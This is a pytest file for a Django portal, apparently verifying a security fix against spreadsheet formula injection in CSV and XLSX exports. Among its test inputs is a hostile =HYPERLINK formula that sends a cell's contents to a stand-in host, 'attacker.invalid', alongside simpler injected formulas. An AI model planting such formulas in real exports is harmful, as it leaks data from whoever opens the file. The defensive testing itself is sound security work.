"""Finding 5 of issue 16: formula injection through exports.

A public wish named `=1+2`, or with the need `=HYPERLINK("http://attacker.invalid/?"&C2,"…")`,
must not become a live formula in a clerk's spreadsheet. Every CSV and XLSX export passes its
text cells through portal/exports.py: text beginning with `=`, `+`, `-`, `@`, a tab or a carriage
return is prefixed with a quote, and XLSX cells hold it as text. Numbers stay numbers.
"""

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from approvals import meeting
from approvals.models import Application
from ledger.models import LedgerItem
from portal.exports import FORMULA_STARTS, append_xlsx_row, neutral_cell, neutral_row, restored_cell
from services_catalog.catalogue_io.export import catalogue_export, catalogue_export_to_folder
from services_catalog.catalogue_io.services import catalogue_import
from services_catalog.models import Synonym
from tests.approvals.conftest import cases, items, residents  # noqa: F401 - fixtures
from tests.catalogue_io.conftest import county_home  # noqa: F401 - fixture
from tests.catalogue_io.files import import_data
from tests.ledger.conftest import ledger  # noqa: F401 - fixture
from tests.services_catalog.conftest import delegate, dibao, guide  # noqa: F401 - fixtures

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?"&C2,"点击查看")'
HOSTILE = ["=1+2", HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]


def dangerous(value) -> bool:
    """A cell a spreadsheet program would evaluate."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


@pytest.fixture
def november():
    with time_machine.travel(datetime.datetime(2026, 11, 18, 9, 0, tzinfo=datetime.UTC), tick=False):
        yield


# -- the helper --------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_finding_05_text_a_spreadsheet_would_evaluate_is_quoted(value):
    assert neutral_cell(value) == "'" + value
    assert restored_cell(neutral_cell(value)) == value


def test_finding_05_numbers_and_plain_text_keep_their_type():
    row = [-5, -2.5, 0, None, datetime.date(2026, 1, 2), "张小明", "村东-路灯", "'=already quoted"]
    assert neutral_row(row) == row
    book = Workbook()
    append_xlsx_row(book.active, [-5, "=1+2", "张小明"])
    cells = list(book.active[1])
    assert (cells[0].value, cells[0].data_type) == (-5, "n")
    assert (cells[1].value, cells[1].data_type) == ("'=1+2", "s")


# -- /work/export.csv ---------------------------------------------------------------------------


def test_finding_05_applications_csv(client, cases, world):  # noqa: F811
    application = cases.submitted()
    Application.objects.filter(pk=application.pk).update(applicant_name="=1+2", item_title=HYPERLINK)
    client.force_login(world.clerk_a)
    cells = csv_cells(client.get(reverse("approvals:export")))
    assert application.number in cells
    assert not any(dangerous(cell) for cell in cells), cells
    assert "'" + HYPERLINK in cells


# -- /work/ledger/export.csv --------------------------------------------------------------------


def test_finding_05_ledger_csv(client, ledger, world):  # noqa: F811
    item = ledger.overdue("a1", name="张小明")
    LedgerItem.objects.filter(pk=item.pk).update(promise=HYPERLINK, helper_name="@SUM(A1:A9)")
    client.force_login(world.supervisor_a)
    cells = csv_cells(client.get(reverse("ledger:export")))
    assert item.number in cells
    assert not any(dangerous(cell) for cell in cells), cells
    assert "'" + HYPERLINK in cells


# -- /work/meeting.xlsx -------------------------------------------------------------------------


def test_finding_05_meeting_xlsx(client, november, ledger, world):  # noqa: F811
    item = ledger.registered("a1", name="=1+2", need=HYPERLINK)
    client.force_login(world.supervisor_a)
    response = client.get(reverse("approvals:meeting_xlsx") + f"?region={world.township_a.code}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    values = [cell.value for cell in cells]
    assert item.number in values
    assert not any(cell.data_type == "f" or dangerous(cell.value) for cell in cells), values
    assert "'" + HYPERLINK in values and "'=1+2" in values
    # The summary's counts are still numbers.
    assert all(isinstance(cell.value, int) for cell in book.worksheets[0]["B"][5:8])


def test_finding_05_meeting_xlsx_from_the_sheet(november, ledger, world):  # noqa: F811
    ledger.registered("a1", name="-1+1", need="@SUM(A1:A9)")
    book = load_workbook(
        io.BytesIO(meeting.meeting_xlsx(meeting.meeting_sheet(world.supervisor_a, world.township_a)))
    )
    values = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert "'@SUM(A1:A9)" in values and "'-1+1" in values
    assert not any(dangerous(value) for value in values)


# -- the catalogue's workbook and CSV folder ----------------------------------------------------


def test_finding_05_catalogue_xlsx(county_home, world):  # noqa: F811
    import_data(county_home)
    Synonym.objects.create(phrase="=1+2", means=HYPERLINK)
    workbook = catalogue_export(county_home=county_home)
    book = load_workbook(io.BytesIO(workbook))
    cells = [cell for row in book["synonyms"].iter_rows() for cell in row]
    assert not any(cell.data_type == "f" or dangerous(cell.value) for cell in cells)
    assert ("'=1+2", "'" + HYPERLINK) in [(a.value, b.value) for a, b in book["synonyms"].iter_rows()]
    # Importing the export back gives the text as it was typed, without the quote.
    Synonym.objects.filter(phrase="=1+2").update(means="changed")
    catalogue_import(actor=None, source=workbook, county_home=county_home)
    assert Synonym.objects.get(phrase="=1+2").means == HYPERLINK


def test_finding_05_catalogue_csv(county_home, tmp_path, world):  # noqa: F811
    import_data(county_home)
    Synonym.objects.create(phrase="@低保", means="-最低生活保障")
    catalogue_export_to_folder(county_home=county_home, path=tmp_path)
    with (tmp_path / "synonyms.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert "'@低保" in cells and "'-最低生活保障" in cells
    assert not any(dangerous(cell) for cell in cells)
    Synonym.objects.filter(phrase="@低保").delete()
    catalogue_import(actor=None, source=tmp_path, county_home=county_home)
    assert Synonym.objects.get(phrase="@低保").means == "-最低生活保障"
